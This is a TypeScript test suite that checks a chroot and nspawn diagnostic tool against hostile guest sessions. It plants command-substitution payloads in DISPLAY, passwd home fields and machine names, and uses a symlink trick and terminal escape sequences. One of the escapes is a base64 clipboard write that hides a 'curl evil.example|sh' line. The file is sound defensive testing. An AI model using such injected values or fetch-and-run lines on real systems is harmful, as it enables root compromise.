/**
 * The hostile-guest suite, session side (issue 13): a guest session's environment and passwd
 * aimed at root. Each test names in its first line the audit item it covers.
 */
import { randomBytes } from 'node:crypto';
import { chmodSync, chownSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { mountChrootApi, startChrootProcess } from '../harness/chroot-guest.js';
import { run } from '../harness/proc.js';
import { describeIntegration } from '../harness/skip.js';
import { runTool } from '../harness/tool.js';
import { createWorld, guestWorlds, type World } from '../harness/world.js';
import { HostContext } from '../../src/host/host-context.js';
import { openTarget } from '../../src/targets/open-target.js';
import { endProbeChildren } from '../../src/guest/probe-client.js';
import { pulseCookieFix, pulseSocketBindFix } from '../../src/fixes/plans/audio-plans.js';
import { nspawnResolvConfUplinkFix } from '../../src/fixes/plans/dns-stub-plans.js';
import { displayEnvFix, x11SocketBindFix, xauthorityFix } from '../../src/fixes/plans/x11-plans.js';
import { runtimeDirBindFix } from '../../src/fixes/plans/runtime-dir-plans.js';
import { privateRunNspawnFix } from '../../src/fixes/plans/mount-plans.js';
import {
  noUplinkFixes,
  nspawnNetnsPathFix,
  nspawnNetworkdFix,
  nspawnShareHostNetworkFix,
  nspawnVethFix,
} from '../../src/fixes/plans/net-plans.js';
import { hostnameAdviceFix } from '../../src/fixes/plans/hosts-plans.js';
import { generateLocaleFix, runWithLocaleFix } from '../../src/fixes/plans/locale-plans.js';
import { machineIdAdviceFix } from '../../src/fixes/plans/machine-id-plans.js';
import { idmapFix } from '../../src/fixes/plans/userns-plans.js';
import { apiMountsFix } from '../../src/fixes/plans/api-mount-plans.js';
import { enterAsUserFix } from '../../src/fixes/plans/session-plans.js';
import { parseNspawnArgs } from '../../src/parse/nspawn-args.js';
import type { Fix } from '../../src/core/types.js';
import type { GuestUser } from '../../src/core/target.js';

interface ReportFix {
  id: string;
  steps: { kind: string; snippet?: string }[];
}

/**
 * Runs `snippets`, as a person would paste them, as root, in a private mount, PID, net, IPC and UTS
 * namespace whose / is an overlay copy of the host: what they write goes to the copy's upper dir,
 * listed (paths below it, with owner and mode) in the result. `binds` are host directories (guest
 * roots) bound into the copy at the same path; `prepare` runs in the copy first.
 */
async function runInSandbox(
  dir: string,
  snippets: string[],
  opts: { binds?: string[]; prepare?: string } = {},
): Promise<{ exitCode: number | null; stderr: string; upper: string[] }> {
  mkdirSync(join(dir, 'fs'), { recursive: true });
  writeFileSync(join(dir, 'snippets.json'), JSON.stringify(snippets));
  writeFileSync(join(dir, 'prepare.sh'), opts.prepare ?? 'true');
  const binds = (opts.binds ?? []).map((b) => `mkdir -p "$1/fs/m${b}" && mount --rbind ${JSON.stringify(b)} "$1/fs/m${b}"`).join('\n');
  const script = `set -e
mount --make-rprivate /
mount -t tmpfs sb "$1/fs"
mkdir "$1/fs/u" "$1/fs/w" "$1/fs/m"
mount -t overlay sb -o "lowerdir=/,upperdir=$1/fs/u,workdir=$1/fs/w" "$1/fs/m"
mount -t proc proc "$1/fs/m/proc"
mount -t tmpfs run "$1/fs/m/run"
${binds}
cp "$1/prepare.sh" "$1/fs/m/ctd-prepare.sh"
chroot "$1/fs/m" /bin/sh /ctd-prepare.sh
rm "$1/fs/m/ctd-prepare.sh"
: > "$1/fs/mark"
node -e 'for (const s of JSON.parse(require("fs").readFileSync(process.argv[1], "utf8"))) require("child_process").spawnSync("timeout", ["5", "chroot", process.argv[2], "/bin/sh", "-c", s], { stdio: "ignore" })' "$1/snippets.json" "$1/fs/m"
cd "$1/fs/u" && find . -newer "$1/fs/mark" -printf '%u:%g %m %p\\n'`;
  const r = await run(['unshare', '--mount', '--pid', '--fork', '--net', '--ipc', '--uts', '--', 'bash', '-c', script, 'sh', dir], {
    timeoutMs: 120_000,
  });
  return { exitCode: r.exitCode, stderr: r.stderr, upper: r.stdout.split('\n').filter((l) => l !== '') };
}
interface Report {
  results: { id: string; status: string; findings: { code: string }[]; fixes: ReportFix[] }[];
}

/** Every manual snippet of the plans that name an nspawn machine, for a machine called `machine` started from `dir`. */
function nspawnPlanSnippets(machine: string, dir: string): string[] {
  const argv = ['systemd-nspawn', '-b', '-D', dir, '-M', machine, '--private-network', `--network-namespace-path=/run/netns/${machine}`];
  const target = {
    kind: 'nspawn' as const,
    root: dir,
    pid: 4243,
    netnsPath: '/proc/4243/ns/net',
    sharesNetns: false,
    nspawn: { machine, nspawnPid: 4242, argv },
  };
  const user: GuestUser = { uid: 1000, gid: 1000, name: machine, home: `/home/${machine}`, groups: [], source: 'default' };
  const r = { uid: 1000, gid: 1000, binds: ['/run/user/1000/pulse'] };
  const fixes: (Fix | null)[] = [
    pulseSocketBindFix(target, 1000),
    pulseCookieFix(target, user, null),
    pulseCookieFix(target, user, `/home/${machine}/cookie`),
    nspawnResolvConfUplinkFix(target),
    x11SocketBindFix(target),
    displayEnvFix(target, ':0'),
    xauthorityFix(target, { display: ':0', hostXauthority: `/home/${machine}/.Xauthority`, user }),
    runtimeDirBindFix(target, {
      ids: { nspawn: 'a.n', schroot: 'a.s', chroot: 'a.c' },
      what: 'the bus',
      uid: 1000,
      env: { name: 'DBUS_SESSION_BUS_ADDRESS', value: 'unix:path=/run/user/1000/bus' },
      fstabFile: null,
    }),
    privateRunNspawnFix(machine, [`--bind=/run:${machine}`], r),
    nspawnVethFix(target),
    nspawnShareHostNetworkFix(target),
    nspawnNetworkdFix(target),
    nspawnNetnsPathFix(`/run/netns/${machine}`),
    ...noUplinkFixes(target, parseNspawnArgs(argv)),
    hostnameAdviceFix('nspawn', dir, machine, machine),
    runWithLocaleFix('nspawn', dir, machine, ['LANG', 'LC_ALL'], machine),
    generateLocaleFix('debian', [machine, 'C.UTF-8']),
    machineIdAdviceFix('nspawn', dir, machine),
    idmapFix('nspawn', dir, machine, [`/home/${machine}`], machine),
    apiMountsFix('fs.api', 'x', 'nspawn', dir, ['/proc'], null, machine),
    enterAsUserFix(target, user),
  ];
  return fixes.flatMap((f) => f?.steps.flatMap((st) => (st.kind === 'manual' && st.snippet ? [st.snippet] : [])) ?? []);
}

// The same attacks on overlays of this host and on a genuine Debian 12 root (issue 13: real guests).
for (const world of guestWorlds())
  describeIntegration.skipIf(world.skip !== null)(`hostile guests: the session environment and passwd (${world.name})`, () => {
    let w: World;

    beforeAll(async () => {
      w = await createWorld(world.options);
    });
    afterAll(async () => w?.dispose());

    test('H1: PULSE_COOKIE naming a root-only file: nothing of it reaches the listener PULSE_SERVER names', async () => {
      const g = await w.guestRoot('hostile-pulse');
      const secret = randomBytes(256);
      writeFileSync(join(g.root, 'etc/ctd-root-only'), secret, { mode: 0o600 });
      // The guest user's own listener, in the guest's /tmp, capturing everything sent to it.
      const dir = join(g.root, 'tmp/ctd-p');
      mkdirSync(dir, { mode: 0o777 });
      chmodSync(dir, 0o777);
      const got: Buffer[] = [];
      const server = net.createServer((s) => s.on('data', (d: Buffer) => got.push(d)).on('error', () => undefined));
      await new Promise<void>((r) => server.listen(join(dir, 'native'), r));
      chmodSync(join(dir, 'native'), 0o777);
      try {
        await startChrootProcess(
          w.net,
          g.root,
          {
            uid: g.user.uid,
            gid: g.user.gid,
            env: {
              PATH: '/usr/bin:/bin',
              HOME: g.user.home,
              PULSE_COOKIE: '/etc/ctd-root-only',
              PULSE_SERVER: 'unix:/tmp/ctd-p/native',
              DISPLAY: ':0',
            },
          },
          w.cleanup,
        );
        const r = await runTool(['check', `chroot:${g.root}`, '--only', 'audio.pulse', '--json', '--timeout', '3000'], {
          netns: w.net.guestNsPath,
        });
        const pulse = (r.json as Report).results.find((x) => x.id === 'audio.pulse')!;
        const sent = Buffer.concat(got);
        // The probe did connect and send its AUTH (so the test is not vacuous)...
        expect(sent.length, JSON.stringify(pulse)).toBeGreaterThan(256);
        // ...with no byte run of the file only root may read.
        expect(sent.includes(secret.subarray(0, 32))).toBe(false);
        expect(pulse.findings.map((f) => f.code)).toContain('pulse-no-cookie');
      } finally {
        await new Promise((r) => server.close(r));
      }
    });

    test("M2: a guest /etc/group listing the user in disk gives the user's probe child no host disk group", async () => {
      const g = await w.guestRoot('hostile-groups');
      // The host account of uid 1000 is not in disk, or this proves nothing.
      expect(
        readFileSync('/etc/group', 'utf8')
          .split('\n')
          .find((l) => l.startsWith('disk:'))
          ?.split(':')[3]
          ?.split(',') ?? [],
      ).not.toContain(g.user.name);
      const group = join(g.root, 'etc/group');
      writeFileSync(
        group,
        readFileSync(group, 'utf8')
          .split('\n')
          .map((l) => (l.startsWith('disk:') ? `${l}${l.endsWith(':') ? '' : ','}${g.user.name}` : l))
          .join('\n'),
      );
      writeFileSync(join(g.root, 'etc/ctd-disk-only'), 'disk group only\n', { mode: 0o640 });
      chownSync(join(g.root, 'etc/ctd-disk-only'), 0, 6);
      await startChrootProcess(
        w.net,
        g.root,
        { uid: g.user.uid, gid: g.user.gid, env: { PATH: '/usr/bin:/bin', DISPLAY: ':0' } },
        w.cleanup,
      );
      const target = (await openTarget(`chroot:${g.root}`, { host: new HostContext({ invokingEnv: {} }) })).target;
      try {
        // The guest's files say disk (6)...
        expect(target.user.groups).toContain(6);
        // ...but the child that reads as the user has only the host account's groups.
        const read = await target.probe('read-file', { path: '/etc/ctd-disk-only', maxBytes: 100 }, { asUser: true, timeoutMs: 10_000 });
        expect(read).toMatchObject({ ok: false, reason: 'permission' });
        // And a guest command run as the user in this chroot (host mounts, host devices) has no gid 6 either.
        const id = await target.exec(['id', '-G'], {
          user: { uid: g.user.uid, gid: g.user.gid, groups: target.user.groups },
          timeoutMs: 10_000,
        });
        expect(id.exitCode, id.stderr + (id.spawnError ?? '')).toBe(0);
        expect(id.stdout.trim().split(/\s+/)).not.toContain('6');
      } finally {
        await endProbeChildren();
      }
    });

    test('H6: a DISPLAY carrying $(…) and a passwd home carrying $(…): every snippet offered, run in a sandbox, executes nothing', async () => {
      const g = await w.guestRoot('hostile-snippets');
      const x = await w.xvfb();
      await mountChrootApi(g.root, w.cleanup, { x11: true });
      const tag = randomBytes(4).toString('hex');
      // No slash in the payloads: parseDisplay takes `HOST/unix:N` apart at the first one.
      const pwn = (what: string) => `$(cd;touch ctd-pwn-${tag}-${what})`;
      // The guest's passwd gives its user a home a shell would run.
      const passwd = join(g.root, 'etc/passwd');
      const home = `/home/${pwn('home')}`;
      writeFileSync(
        passwd,
        readFileSync(passwd, 'utf8')
          .split('\n')
          .map((l) =>
            l.split(':')[2] === String(g.user.uid)
              ? l
                  .split(':')
                  .map((f, i) => (i === 5 ? home : f))
                  .join(':')
              : l,
          )
          .join('\n'),
      );
      // No cookie in the guest: the server says "No protocol specified", which is what offers the cookie fixes.
      await startChrootProcess(
        w.net,
        g.root,
        {
          uid: g.user.uid,
          gid: g.user.gid,
          // sudo's traces (SUDO_USER, secure_path) make session.user offer its enter-as-the-user snippet, with the guest's home in it.
          env: {
            PATH: '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
            SUDO_USER: 'admin',
            HOME: home,
            DISPLAY: `x;${pwn('display')}/unix:${x.display}`,
            XDG_RUNTIME_DIR: '/tmp',
          },
        },
        w.cleanup,
      );
      const r = await runTool(['check', `chroot:${g.root}`, '--json', '--timeout', '4000'], { netns: w.net.guestNsPath });
      const report = r.json as Report;
      const snippets = report.results.flatMap((c) =>
        c.fixes.flatMap((f) => f.steps.filter((s) => s.kind === 'manual' && s.snippet).map((s) => s.snippet!)),
      );
      expect(snippets.length).toBeGreaterThan(3);
      // H6: nspawn machine names (and the machine's command line) a spoofed process could carry: every
      // plan that names the machine, with `$(…)` and both quotes in the name and its directory.
      const machineSnippets = nspawnPlanSnippets(`m${pwn('machine')}'q"`, `/srv/${pwn('dir')}'x"`);
      expect(machineSnippets.length).toBeGreaterThan(10);
      snippets.push(...machineSnippets);

      // Every snippet, as a person would paste it, as root, in a private mount, PID, net, IPC and UTS
      // namespace whose / is an overlay copy of the host: what it writes goes to the copy's upper dir.
      const sandbox = join(w.stateDir, `sandbox-${tag}`);
      mkdirSync(sandbox);
      // A control that does expand, to show the sandbox would see it.
      writeFileSync(join(sandbox, 'snippets.json'), JSON.stringify([...snippets, `echo ${pwn('control')}`]));
      const script = `set -e
mount --make-rprivate /
mount -t tmpfs sb "$1/fs"
mkdir "$1/fs/u" "$1/fs/w" "$1/fs/m"
mount -t overlay sb -o "lowerdir=/,upperdir=$1/fs/u,workdir=$1/fs/w" "$1/fs/m"
mount -t proc proc "$1/fs/m/proc"
mount -t tmpfs run "$1/fs/m/run"
node -e 'for (const s of JSON.parse(require("fs").readFileSync(process.argv[1], "utf8"))) require("child_process").spawnSync("timeout", ["5", "chroot", process.argv[2], "/bin/sh", "-c", s], { stdio: "ignore" })' "$1/snippets.json" "$1/fs/m"
find "$1/fs/u" -name 'ctd-pwn-*'`;
      mkdirSync(join(sandbox, 'fs'));
      const ran = await run(
        ['unshare', '--mount', '--pid', '--fork', '--net', '--ipc', '--uts', '--', 'bash', '-c', script, 'sh', sandbox],
        { timeoutMs: 120_000 },
      );
      expect(ran.exitCode, ran.stderr).toBe(0);
      const hits = ran.stdout.split('\n').filter((l) => l.includes(`ctd-pwn-${tag}`));
      expect(hits.length, ran.stdout).toBe(1);
      expect(hits[0]).toMatch(new RegExp(`ctd-pwn-${tag}-control$`));
      for (const dir of ['/tmp', '/root', process.cwd()]) expect(readdirSync(dir).filter((e) => e.includes(`ctd-pwn-${tag}`))).toEqual([]);
      rmSync(sandbox, { recursive: true, force: true });
      // The guest's strings did reach the plans, quoted: the sandbox run tested something.
      expect(snippets.join('\n')).toContain(`'HOME=${home}'`);
      expect(machineSnippets.join('\n')).toContain("-M 'm$(cd;touch");
    });
    test('H6: the cookie copy, pasted as root while the guest user made ~/.config a symlink to /etc, writes nothing outside what that user may write', async () => {
      const g = await w.guestRoot('hostile-cookie');
      const config = join(g.root, g.user.home, '.config');
      rmSync(config, { recursive: true, force: true });
      mkdirSync(join(g.root, g.user.home), { recursive: true });
      chownSync(join(g.root, g.user.home), g.user.uid, g.user.gid);
      symlinkSync('/etc', config);
      const fix = pulseCookieFix({ kind: 'chroot', root: g.root }, { ...g.user, groups: [], source: 'default' } satisfies GuestUser, null)!;
      const snippet = fix.steps.map((st) => (st.kind === 'manual' ? (st.snippet ?? '') : '')).join('\n');
      // The host account of the same uid has a cookie in the copy, so there is something to copy.
      const prepare = `h=$(getent passwd ${g.user.uid} | cut -d: -f6); mkdir -p "$h/.config/pulse"; printf %0256d 0 > "$h/.config/pulse/cookie"; chown -R ${g.user.uid}:${g.user.gid} "$h/.config"; chmod 600 "$h/.config/pulse/cookie"`;
      const attacked = await runInSandbox(join(w.stateDir, 'sandbox-cookie'), [snippet], { binds: [g.root], prepare });
      expect(attacked.exitCode, attacked.stderr).toBe(0);
      // Root's install -D would have followed ~/.config to the copy's /etc and left a user-owned /etc/pulse/cookie there.
      expect(attacked.upper.filter((l) => /\/etc\/pulse/.test(l))).toEqual([]);
      expect(readdirSync(join(g.root, 'etc')).includes('pulse') && readdirSync(join(g.root, 'etc/pulse')).includes('cookie')).toBe(false);
      // With a real ~/.config the same snippet works: the cookie lands there, the user's, mode 0600.
      rmSync(config);
      mkdirSync(config, { mode: 0o755 });
      chownSync(config, g.user.uid, g.user.gid);
      const plain = await runInSandbox(join(w.stateDir, 'sandbox-cookie-2'), [snippet], { binds: [g.root], prepare });
      expect(plain.exitCode, plain.stderr).toBe(0);
      const copied = statSync(join(config, 'pulse/cookie'));
      expect([copied.uid, copied.mode & 0o777, copied.size]).toEqual([g.user.uid, 0o600, 256]);
    });
    test('M3: escape sequences in guest strings (an OSC 52 clipboard write, a line wipe, a bidi override) reach the terminal escaped, never raw', async () => {
      const g = await w.guestRoot('hostile-escapes');
      const osc52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007';
      await startChrootProcess(
        w.net,
        g.root,
        {
          uid: g.user.uid,
          gid: g.user.gid,
          env: {
            PATH: '/usr/bin:/bin',
            HOME: g.user.home,
            DISPLAY: `${osc52}:0`,
            XDG_RUNTIME_DIR: '/run/\u001b[2K\u001b[1Ax\u202ey',
            PULSE_SERVER: 'unix:/tmp/\u001b[31mred',
          },
        },
        w.cleanup,
      );
      for (const format of ['text', 'json']) {
        const r = await runTool(['check', `chroot:${g.root}`, '--format', format, '--timeout', '3000'], {
          netns: w.net.guestNsPath,
          env: { FORCE_COLOR: '0' },
        });
        // The values did reach the report (escaped in text; JSON escapes them itself)...
        expect(r.stdout, format).toContain(format === 'text' ? '\\x1b]52' : '\\u001b]52');
        // ...and no raw ESC, BEL or bidi override of the guest's did.
        expect(r.stdout.includes('\u001b]52'), format).toBe(false);
        expect(/\u001b\[(2K|1A|31m)/.test(r.stdout), format).toBe(false);
        // A bidi override is a printable character to JSON (machine output); the human formats escape it.
        if (format === 'text') expect(r.stdout.includes('\u202e')).toBe(false);
        expect(r.stdout.includes('\u0007'), format).toBe(false);
      }
    });
  });
